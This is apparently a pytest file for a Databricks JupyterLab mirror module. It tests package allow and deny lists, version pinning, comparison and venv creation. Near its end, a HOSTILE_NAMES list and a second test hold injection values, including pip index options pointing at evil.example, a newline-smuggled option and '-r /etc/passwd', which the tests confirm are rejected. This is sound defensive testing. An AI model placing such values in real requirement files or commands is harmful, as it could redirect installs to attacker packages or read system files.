"""Package lists, filtering, pinning and version comparison of the local mirror."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from databrickslabs_jupyterlab import mirror
from tests.fixtures.wheels import build_wheel

DRIVER = {
    "numpy": "1.26.4",
    "Pandas": "2.2.2",
    "scikit_learn": "1.4.2",
    "torch": "2.3.1+cu121",
    "pip": "24.0",
    "setuptools": "69.5.1",
    "boto3": "1.34.0",
    "azure-storage-blob": "12.19.1",
    "jupyter_client": "8.6.0",
    "ipykernel": "6.29.0",
    "my-company-utils": "0.3",
    "weird": "not a version",
}


def test_lists_do_not_overlap_and_are_normalized() -> None:
    white = {mirror.normalize(n) for n in mirror.WHITELIST}
    black = {mirror.normalize(n) for n in mirror.BLACKLIST}
    assert len(white) == len(mirror.WHITELIST) and len(black) == len(mirror.BLACKLIST)
    assert not white & black
    assert not any(mirror._listed(n, mirror.BLACKLIST) for n in mirror.WHITELIST)


def test_blacklist_keeps_everything_but_infrastructure() -> None:
    selected = mirror.select(DRIVER, use_whitelist=False)
    assert set(selected) == {
        "numpy",
        "pandas",
        "scikit-learn",
        "torch",
        "my-company-utils",
        "weird",
    }


def test_whitelist_keeps_only_data_science() -> None:
    selected = mirror.select(DRIVER, use_whitelist=True)
    assert list(selected) == ["numpy", "pandas", "scikit-learn", "torch"]


def test_pins_drop_local_labels_and_bad_versions() -> None:
    reqs = mirror.requirements(mirror.select(DRIVER, use_whitelist=False))
    assert "torch==2.3.1" in reqs
    assert "pandas==2.2.2" in reqs
    assert "weird" in reqs  # unpinned rather than an invalid requirement


def test_compare_modes() -> None:
    local = {"numpy": "1.26.4", "pandas": "2.1.0", "requests": "2.31.0"}
    remote = {"NumPy": "1.26.4", "pandas": "2.2.2", "torch": "2.3.1"}
    all_rows = mirror.compare(local, remote, "all")
    assert [r.package for r in all_rows] == ["numpy", "pandas", "requests", "torch"]
    assert [r.package for r in mirror.compare(local, remote, "same")] == ["numpy"]
    diff = {r.package: (r.local, r.remote) for r in mirror.compare(local, remote, "diff")}
    assert diff == {
        "pandas": ("2.1.0", "2.2.2"),
        "requests": ("2.31.0", None),
        "torch": (None, "2.3.1"),
    }


def test_local_packages_sees_this_interpreter() -> None:
    local = mirror.local_packages()
    assert "pytest" in local and local["pytest"] == pytest.__version__


def test_env_name() -> None:
    assert mirror.env_name("Bernhard 5.5 ML!") == "Bernhard-5.5-ML"
    assert mirror.env_name("///") == "databricks-mirror"


def test_create_venv_installs_the_requirements(tmp_path: Path) -> None:
    """A real venv; the requirement is satisfied offline from a wheel built here."""
    wheels = tmp_path / "wheels"
    build_wheel(wheels, "dbjl-mirror-probe", "1.2.3", "VALUE = 42\n")
    lines: list[str] = []
    env = tmp_path / "env"
    with pytest.raises(mirror.MirrorError, match="exit status"):
        mirror.create_venv(
            tmp_path / "bad",
            ["dbjl-mirror-probe==9.9.9"],
            pip_args=["--no-index", "--find-links", str(wheels)],
            on_line=lines.append,
        )
    # ipykernel (added by default) would need an index: left out here
    mirror.create_venv(
        env,
        ["dbjl-mirror-probe==1.2.3"],
        pip_args=["--no-index", "--find-links", str(wheels), "--no-deps"],
        on_line=lines.append,
        ipykernel=False,
    )
    py = mirror.venv_python(env)
    value = subprocess.run(
        [str(py), "-c", "import dbjl_mirror_probe; print(dbjl_mirror_probe.VALUE)"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    assert value == "42"
    assert (env / "requirements-mirror.txt").read_text() == "dbjl-mirror-probe==1.2.3\n"
    assert any(line.startswith("pip: ") for line in lines)
    with pytest.raises(mirror.MirrorError, match="already exists"):
        mirror.create_venv(env, [], on_line=lines.append)


# Names a compromised or odd driver could report; each would be a pip option, a second line or
# a URL in the local requirements file.
HOSTILE_NAMES = [
    "-i http://evil.example/simple",
    "--index-url=http://evil.example/simple",
    "-e git+https://evil.example/x.git",
    "numpy\n-i http://evil.example/simple",
    "pkg @ https://evil.example/pkg.whl",
    "pkg; python_version>'3'",
    "-r /etc/passwd",
    "pkg ",
    "",
    "pkg\r",
    "a/b",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_only_pep508_names_from_the_driver_are_mirrored(name: str) -> None:
    remote = {"numpy": "1.26.4", name: "1.0"}
    for use_whitelist in (False, True):
        assert mirror.select(remote, use_whitelist=use_whitelist) == {"numpy": "1.26.4"}
    assert mirror.invalid_names(remote) == [name]
    assert [r.package for r in mirror.compare({}, remote, "all")] == ["numpy"]
    assert mirror.invalid_names({"numpy": "1", "Scikit_Learn": "1", "a.b-c_d": "1"}) == []


@pytest.mark.parametrize("line", ["-i http://evil.example/simple", "numpy==1\n-e .", "pkg @ /x"])
def test_requirements_file_refuses_anything_but_pins(tmp_path: Path, line: str) -> None:
    """Second line of defence: the file written for pip holds only ``name`` or ``name==version``."""
    with pytest.raises(mirror.MirrorError, match="not a package name"):
        mirror.create_venv(tmp_path / "env", [line], on_line=lambda _: None, ipykernel=False)
    assert not (tmp_path / "env").exists()
